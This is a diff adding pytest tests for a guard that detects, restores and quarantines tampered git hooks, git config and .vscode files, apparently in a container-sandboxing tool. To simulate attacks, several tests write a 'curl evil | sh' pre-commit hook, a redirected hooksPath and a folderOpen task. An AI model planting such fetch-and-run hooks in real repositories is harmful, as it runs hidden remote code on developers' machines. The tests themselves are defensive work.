@@ -1,0 +1,182 @@
+"""Protected paths on the host side: planning, record, verify and restore (no daemon needed)."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from coi.config.loader import load_config
+from coi.errors import ConfigError
+from coi.protection.guard import Guard
+from coi.protection.paths import configured_paths, devices, plan
+
+RELS = [".git/hooks", ".git/config", ".husky", ".vscode"]
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    ws = tmp_path / "ws"
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / ".git" / "objects").mkdir()
+    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    hook = ws / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\necho honest\n")
+    hook.chmod(0o755)
+    (ws / "src.py").write_text("print(1)\n")
+    return ws
+
+
+@pytest.fixture
+def guard(repo: Path, tmp_path: Path) -> Guard:
+    g = Guard("coi-test-1", home=tmp_path / "home")
+    g.record(plan(repo, RELS))
+    return g
+
+
+def messages() -> tuple[list[str], object]:
+    out: list[str] = []
+    return out, out.append
+
+
+def test_plan_mounts_git_dir_and_existing_paths(repo: Path) -> None:
+    p = plan(repo, RELS)
+    assert [(e.rel, e.kind) for e in p.paths] == [
+        (".git/hooks", "dir"),
+        (".git/config", "file"),
+        (".husky", "absent"),
+        (".vscode", "absent"),
+    ]
+    devs = devices(p, "/workspace")
+    assert devs["protect-git-dir"] == {
+        "type": "disk",
+        "source": str(repo / ".git"),
+        "path": "/workspace/.git",
+    }
+    assert devs["protect-git-hooks"]["readonly"] == "true"
+    assert devs["protect-git-config"]["path"] == "/workspace/.git/config"
+    assert len(devs) == 3  # absent paths cannot be mounted; the guard watches them
+
+
+def test_plan_creates_missing_hooks_dir(tmp_path: Path) -> None:
+    (tmp_path / ".git").mkdir()
+    plan(tmp_path, RELS)
+    assert (tmp_path / ".git" / "hooks").is_dir()
+
+
+def test_plan_worktree_protects_the_pointer_file(tmp_path: Path) -> None:
+    (tmp_path / ".git").write_text("gitdir: /somewhere/.git/worktrees/x\n")
+    p = plan(tmp_path, RELS)
+    assert [e.rel for e in p.paths] == [".git", ".husky", ".vscode"]
+    assert not p.git_dir_mount
+    assert devices(p, "/workspace")["protect-git"]["readonly"] == "true"
+
+
+def test_plan_without_git_watches_only(tmp_path: Path) -> None:
+    p = plan(tmp_path, RELS)
+    assert [e.kind for e in p.paths] == ["absent", "absent"]
+    assert devices(p, "/workspace") == {}
+
+
+def test_configured_paths_validation(tmp_path: Path) -> None:
+    cfg = load_config(cwd=tmp_path, env={"HOME": str(tmp_path)}, files=[])
+    assert configured_paths(cfg) == RELS
+    cfg.set("security.additional_protected_paths", ["./Makefile", ".git/hooks"], "test")
+    assert configured_paths(cfg) == [*RELS, "Makefile"]
+    cfg.set("security.additional_protected_paths", ["../outside"], "test")
+    with pytest.raises(ConfigError, match=r"security\.additional_protected_paths"):
+        configured_paths(cfg)
+    cfg.set("git.writable_hooks", True, "test")
+    assert configured_paths(cfg) == []
+
+
+def test_unchanged_and_touched_raise_nothing(repo: Path, guard: Guard) -> None:
+    assert guard.enforce().changes == []
+    os.utime(repo / ".git" / "hooks" / "pre-commit", (1, 1))
+    report = guard.enforce()
+    assert report.changes == [] and report.restored == []
+    assert not guard.audit.path.exists()
+
+
+def test_changed_hook_is_restored_and_kept_as_evidence(repo: Path, guard: Guard) -> None:
+    hook = repo / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    (repo / ".git" / "hooks" / "post-checkout").write_text("evil\n")
+    (repo / ".git" / "config").write_text("[core]\n\thooksPath = /workspace/evil\n")
+    said, log = messages()
+    report = guard.enforce(log)  # type: ignore[arg-type]
+    assert {str(c) for c in report.changes} == {
+        ".git/hooks/pre-commit (content changed)",
+        ".git/hooks/post-checkout (created)",
+        ".git/config (content changed)",
+    }
+    assert hook.read_text() == "#!/bin/sh\necho honest\n"
+    assert hook.stat().st_mode & 0o777 == 0o755
+    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
+    assert "hooksPath" not in (repo / ".git" / "config").read_text()
+    assert report.quarantine is not None
+    evidence = report.quarantine / ".git/hooks/pre-commit"
+    assert evidence.read_text() == "#!/bin/sh\ncurl evil | sh\n"
+    assert "PROTECTED PATHS CHANGED" in said[0] and "Logged to audit" in said[0]
+    line = guard.audit.path.read_text().splitlines()[0]
+    assert '"level":"high"' in line and '"category":"protected_path"' in line
+    event = json.loads(line)
+    assert event["action"] == "restored" and event["container"] == "coi-test-1"
+    # The restored state is the new baseline: the next sweep is quiet.
+    assert guard.enforce().changes == []
+
+
+def test_mode_change_is_restored(repo: Path, guard: Guard) -> None:
+    hook = repo / ".git" / "hooks" / "pre-commit"
+    hook.chmod(0o777)
+    assert [str(c) for c in guard.enforce().changes] == [
+        ".git/hooks/pre-commit (permissions changed)"
+    ]
+    assert hook.stat().st_mode & 0o777 == 0o755
+
+
+def test_symlinked_hooks_dir_never_writes_outside(repo: Path, guard: Guard, tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "keep").write_text("host file\n")
+    hooks = repo / ".git" / "hooks"
+    for f in hooks.iterdir():
+        f.unlink()
+    hooks.rmdir()
+    hooks.symlink_to(outside)
+    report = guard.enforce()
+    assert report.restored == [".git/hooks"]
+    assert not hooks.is_symlink() and (hooks / "pre-commit").is_file()
+    assert sorted(p.name for p in outside.iterdir()) == ["keep"]
+    assert (outside / "keep").read_text() == "host file\n"
+
+
+def test_renamed_git_dir_is_moved_back(repo: Path, guard: Guard, tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (repo / ".git").rename(repo / "stolen")
+    (repo / ".git").symlink_to(outside)
+    report = guard.enforce()
+    assert (repo / ".git" / "objects").is_dir() and not (repo / ".git").is_symlink()
+    assert any(n.startswith(".git.coi-tampered-") for n in os.listdir(repo))
+    assert ".git (replaced)" in [str(c) for c in report.changes]
+    assert list(outside.iterdir()) == []
+
+
+def test_created_absent_path_is_removed(repo: Path, guard: Guard) -> None:
+    tasks = repo / ".vscode" / "tasks.json"
+    tasks.parent.mkdir()
+    tasks.write_text('{"runOn": "folderOpen"}')
+    report = guard.enforce()
+    assert [str(c) for c in report.changes] == [".vscode (created)", ".vscode/tasks.json (created)"]
+    assert not (repo / ".vscode").exists()
+    assert report.quarantine is not None
+    assert (report.quarantine / ".vscode/tasks.json").read_text() == '{"runOn": "folderOpen"}'
+
+
+def test_forget_and_missing_record(guard: Guard) -> None:
+    guard.forget()
+    assert not guard.exists()
+    assert guard.enforce().changes == []
